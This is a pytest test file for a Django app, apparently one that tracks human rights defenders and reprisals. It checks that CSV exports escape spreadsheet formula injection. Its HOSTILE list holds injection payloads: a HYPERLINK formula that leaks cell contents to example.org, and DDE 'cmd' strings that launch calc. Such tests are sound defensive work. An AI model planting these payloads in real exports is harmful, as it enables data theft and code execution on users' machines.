"""Every CSV file the product offers, filled with text a spreadsheet would run: no cell may
start a formula (``haven/core/csvfile.py`` is the one writer).

The exports are found, not listed by hand: a route that serves ``.csv`` must be exercised
here, and no module of ``haven`` but the writer may write CSV or name its content type, so a
new export that bypasses the writer fails this file.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from haven.cases import services as cases
from haven.core.csvfile import FORMULA_START
from haven.monitoring import services as monitoring
from haven.registry import services as registry
from tests.factories import (
    make_defender,
    make_mission,
    make_organisation,
    make_user,
    signed_in_client,
)

HAVEN = Path(__file__).resolve().parents[1] / "haven"
WRITER = HAVEN / "core" / "csvfile.py"
# Text a person can type into every free-text column an export reaches, one per formula sign.
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _runs(value: str) -> bool:
    return value[:1] in FORMULA_START or value.lstrip()[:1] in FORMULA_START


class World:
    """One mission whose defenders, organisations and reprisals carry hostile regions."""

    def __init__(self) -> None:
        self.mission = make_mission()
        self.officer = make_user(self.mission, "officer")
        for n, region in enumerate(HOSTILE):
            subject: dict[str, Any] = (
                {"defender": make_defender(self.mission, region=region)}
                if n % 2
                else {"organisation": make_organisation(self.mission, region=region)}
            )
            entry = subject.get("defender") or subject["organisation"]
            registry.record_consent(
                entry=entry,
                actor=self.officer,
                scope="deidentified_reporting",
                channel="in_person",
                given_on=timezone.localdate(),
            )
            case = cases.open_case(
                mission=self.mission, actor=self.officer, title="x", urgency="high", **subject
            )
            monitoring.record_civic_event(
                mission=self.mission,
                actor=self.officer,
                kind="reprisal",
                title="x",
                starts_on=timezone.localdate(),
                region=region,
                source_type="media",
                cases_linked=[case],
            )

    def client(self) -> Client:
        return signed_in_client(self.officer, reauthenticated=True)


YEAR = {"year": str(timezone.localdate().year)}
# Each CSV route, and the query that makes it export the rows above.
EXPORTS: dict[str, dict[str, str]] = {
    "monitoring:register_csv": {},
    "reports:annual_csv": YEAR,
}


def _csv_routes(patterns: list[Any], namespace: str = "") -> set[str]:
    """The names of routes whose path or name says CSV."""
    found: set[str] = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = namespace
            if pattern.namespace:
                inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
            found |= _csv_routes(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern):
            route = str(pattern.pattern)
            if "csv" in route.lower() or "csv" in str(pattern.name).lower():
                found.add(f"{namespace}:{pattern.name}" if namespace else str(pattern.name))
    return found


def test_every_csv_route_is_exercised_here() -> None:
    assert _csv_routes(get_resolver().url_patterns) == set(EXPORTS)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_a_csv_export_starts_a_formula(name: str) -> None:
    world = World()
    response = world.client().get(reverse(name), EXPORTS[name])
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    cells = [value for row in rows for value in row]
    assert not [value for value in cells if _runs(value)]
    # The hostile text did reach the file, as text: one apostrophe ahead, nothing lost.
    for region in HOSTILE:
        assert "'" + " ".join(region.split()) in cells, (name, region)


def _writes_csv(tree: ast.AST) -> list[str]:
    """How a module writes CSV or serves it: ``csv.writer``/``DictWriter`` by any name, or
    the CSV content type spelled out."""
    aliases = {"csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module in {"csv", "_csv"}:
            found += [a.name for a in node.names if a.name in {"writer", "DictWriter", "*"}]
        elif (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
            and node.attr in {"writer", "DictWriter"}
        ):
            found.append(f"{node.value.id}.{node.attr}")
        elif (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and "text/csv" in node.value.lower()
        ):
            found.append(node.value)
    return found


def test_only_the_csv_module_writes_csv() -> None:
    offenders = {}
    for path in sorted(HAVEN.rglob("*.py")):
        if path == WRITER or "tests" in path.relative_to(HAVEN).parts:
            continue
        found = _writes_csv(ast.parse(path.read_text(encoding="utf-8")))
        if found:
            offenders[str(path.relative_to(HAVEN))] = found
    assert not offenders, f"CSV written outside haven/core/csvfile.py: {offenders}"
    assert _writes_csv(ast.parse(WRITER.read_text(encoding="utf-8")))  # the check sees writes


def test_the_source_check_sees_every_way_of_writing_csv() -> None:
    for source in (
        "import csv\ncsv.writer(out)",
        "import csv as c\nc.DictWriter(out, [])",
        "from csv import writer",
        "HttpResponse(body, content_type='text/CSV')",
    ):
        assert _writes_csv(ast.parse(source)), source
    assert not _writes_csv(ast.parse("import csv\ncsv.reader(text)"))
